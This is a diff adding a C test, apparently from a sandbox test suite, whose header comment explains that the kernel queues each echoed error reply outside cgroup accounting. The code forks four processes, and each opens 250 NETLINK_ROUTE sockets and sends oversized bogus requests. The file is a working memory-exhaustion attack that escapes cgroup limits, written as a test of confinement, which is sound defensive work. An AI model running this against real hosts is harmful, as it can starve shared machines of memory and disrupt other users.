@@ -1,0 +1,44 @@
+/**
+ * @file
+ * @brief netlinkack: as netlinkhog, with what the kernel itself answers.
+ *
+ * NETLINK_ROUTE lets nobody write to itself, but the kernel answers each wrong
+ * request with an error, and the request once more, as long as it was. An
+ * answer that nobody reads waits, charged to no cgroup. The queue of a socket
+ * has room for one such answer, so it takes many sockets, in several processes.
+ */
+#include <linux/netlink.h>
+#include <stdio.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "tests/attacks/breakouts/breakout.h"
+
+enum {
+    PROCESSES = 4,
+    SOCKETS = 250
+};
+
+static int fill(void)
+{
+    static union {
+        struct nlmsghdr head;
+        char text[200000];
+    } request = { .head = { .nlmsg_len = sizeof(request),
+                            .nlmsg_type = 9999,
+                            .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK } };
+    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
+
+    return fd >= 0 && send(fd, &request, sizeof(request), 0) > 0;
+}
+
+BREAKOUT(netlinkack)
+{
+    for (int i = 0; i < PROCESSES - 1; i++)
+        if (fork() == 0)
+            break;
+    for (int i = 0; i < SOCKETS; i++)
+        if (!fill())
+            return stopped("NETLINK_ROUTE");
+    return linger();
+}
